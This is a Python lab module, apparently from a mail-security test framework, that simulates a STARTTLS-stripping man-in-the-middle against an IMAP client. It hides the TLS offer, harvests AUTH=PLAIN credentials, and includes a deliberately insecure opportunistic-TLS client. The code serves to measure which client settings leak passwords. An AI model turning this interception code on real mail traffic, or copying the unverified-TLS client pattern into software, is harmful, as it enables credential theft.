"""The man in the middle and somebody who reads mail: STARTTLS hidden from an IMAP client (RFC 8314 section 3).

He speaks TLS to the server himself, so that all works as usual, and takes STARTTLS and LOGINDISABLED out of what the
server offers.  DELIBERATELY VULNERABLE is the client set to "opportunistic": it logs in all the same.  Only ``victim``
reads here, whose password is no secret.
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace

from mailkit.conversation import FAILURES, IMAP, explain, unverified_context
from mailkit.lab.attacks.attackers import VICTIM
from mailkit.lab.core import Lab
from mailkit.lab.listening import listening
from mailkit.results import Outcome, Record, Rows

__all__ = ["SETTINGS", "Reading", "read_mail", "stripped"]

# What mail programs call them, roughly: "STARTTLS, if available", "STARTTLS", "SSL/TLS".
SETTINGS = ("opportunistic", "verify", "implicit")
_SERVER = "imap.kaisha.example"
_PATIENCE = 10.0  # seconds for a TLS handshake


@dataclass(frozen=True)
class Reading(Record):
    """One client setting: was the mailbox opened, did somebody on the way get the password, and why it ended."""

    setting: str
    port: int
    opened: bool
    leaked: bool
    outcome: Outcome
    reason: str = ""


def read_mail(lab: Lab, setting: str, *, vantage: str = "hotel") -> Reading:
    """Let the victim open the mailbox from *vantage* with a client set to *setting*; nobody attacks.

    Raises ValueError for another setting than those of :data:`SETTINGS`.
    """
    if setting not in SETTINGS:
        raise ValueError(f"no setting {setting!r}; there are {', '.join(SETTINGS)}")
    net = lab.network(vantage)
    port = 993 if setting == "implicit" else 143
    talk = IMAP(net, _SERVER, port, timeout=8 * net.timeout)
    try:
        talk.open(context=net.tls_context() if setting == "implicit" else None)
        talk.introduce()
        if setting == "verify" or (setting == "opportunistic" and talk.offer.starttls):
            # Careless: "if available" asks nobody who it is.
            talk.secure(net.tls_context() if setting == "verify" else unverified_context())
        talk.login(lab.account(VICTIM))  # careless: it does not ask whether anybody can read along
        talk.leave()
    except FAILURES as error:
        ended = explain(error, talk.stage)
        talk.close()
        return Reading(setting, port, False, False, ended.outcome, ended.reason)
    return Reading(setting, port, True, False, Outcome.OPEN)


def stripped(lab: Lab, *, vantage: str = "hotel") -> Rows[Reading]:
    """Let the victim read with each setting while somebody on the way from *vantage* hides STARTTLS."""
    found = []
    for setting in SETTINGS:
        with _hiding(lab, vantage) as caught:
            reading = read_mail(lab, setting, vantage=vantage)
            found.append(replace(reading, leaked=VICTIM in caught))
    return Rows(Reading, found, caption=lab.network(vantage).caption)


@contextmanager
def _hiding(lab: Lab, vantage: str) -> Iterator[list[str]]:
    """Sit on the way from *vantage* for as long as the block lasts; yields whose passwords were read."""
    caught: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        address, port = lab.router.wanted[writer.get_extra_info("peername")[1]]
        sock = socket.socket()
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", lab.router.listeners[address, port]))
        far_reader, far_writer = await asyncio.open_connection(sock=sock)
        try:
            greeting = await far_reader.readline() if port == 143 else b""
            if port == 143:
                far_writer.write(b"m STARTTLS\r\n")
                await far_reader.readline()
                await far_writer.start_tls(unverified_context(), ssl_handshake_timeout=_PATIENCE)
                writer.write(_altered(greeting))
            ways = [
                asyncio.ensure_future(_forth(reader, far_writer, caught, port)),
                asyncio.ensure_future(_back(far_reader, writer, port)),
            ]
            await asyncio.wait(ways, return_when=asyncio.FIRST_COMPLETED)
            for way in ways:
                way.cancel()
            await asyncio.gather(*ways, return_exceptions=True)
        finally:
            far_writer.transport.abort()

    with listening(lab, serve) as port:
        lab.router.taps[vantage] = port
        try:
            yield caught
        finally:
            lab.router.taps.pop(vantage, None)


def _altered(line: bytes) -> bytes:
    """Return what the client gets of a line with capabilities: no TLS to be had, and a login that says the password."""
    kept = line.replace(b" STARTTLS", b"").replace(b" LOGINDISABLED", b"")
    for mechanism in (b" AUTH=SCRAM-SHA-256", b" AUTH=LOGIN"):
        kept = kept.replace(mechanism, b"")
    return kept


async def _forth(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, caught: list[str], port: int) -> None:
    if port != 143:
        await _copy(reader, writer)
    while line := await reader.readline():
        try:
            parts = base64.b64decode(line.strip(), validate=True).split(b"\0")
        except (binascii.Error, ValueError):
            parts = []
        if len(parts) == 3:
            caught.append(parts[1].decode("utf-8", "replace"))
        writer.write(line)
        await writer.drain()


async def _back(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, port: int) -> None:
    if port != 143:
        await _copy(reader, writer)
    while line := await reader.readline():
        writer.write(_altered(line) if b"CAPABILITY" in line else line)
        await writer.drain()


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while data := await reader.read(65536):
        writer.write(data)
        await writer.drain()
